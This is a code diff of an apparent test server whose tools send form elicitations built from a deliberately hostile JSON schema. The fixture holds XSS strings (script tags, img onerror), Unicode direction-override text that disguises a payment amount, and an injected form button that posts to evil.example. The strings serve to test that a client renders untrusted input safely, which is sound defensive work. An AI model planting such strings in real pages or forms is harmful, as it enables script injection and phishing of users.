@@ -47,13 +47,14 @@ EVERY_KIND: dict[str, Any] = {
 }
 SCRIPT = "<script>document.title='owned'</script><img src=x onerror=\"document.title='owned'\">"
 TURNED = "Pay \u202e00.01$ ot\u202c now\u0007\u200b"
+BUTTON = "<form action='https://evil.example/'><button class='primary'>Send answer</button>"
 HOSTILE: dict[str, Any] = {
     "type": "object",
     "properties": {
         f'"><b id="broken">{SCRIPT}': {
             "type": "string",
             "title": f"</label>{SCRIPT}{TURNED}",
-            "description": "</div></form><form action='https://evil.example/'><button class='primary'>Send answer</button>",
+            "description": f"</div></form>{BUTTON}",
             "default": '"><script>document.title="owned"</script>',
         },
         "pick": {"type": "string", "enum": [SCRIPT, "</option></select><script>1</script>", TURNED]},
@@ -76,13 +77,13 @@ async def greet(ctx: Context, who: str = "you") -> str:
 
 @server.tool()
 async def every_kind(ctx: Context) -> str:
-    return repr((await ctx.elicit_form("All of it, please", EVERY_KIND, key="all")).content)
+    return repr((await ctx.session.elicit_form("All of it, please", EVERY_KIND, key="all")).content)
 
 
 @server.tool()
 async def hostile(ctx: Context, size: int = 0) -> str:
     message = f"{SCRIPT}{TURNED}\n{LOOKALIKE}{'long ' * (size // 5)}"
-    return repr((await ctx.elicit_form(message, HOSTILE, key="bad")).action)
+    return repr((await ctx.session.elicit_form(message, HOSTILE, key="bad")).action)
 
 
 @server.tool()
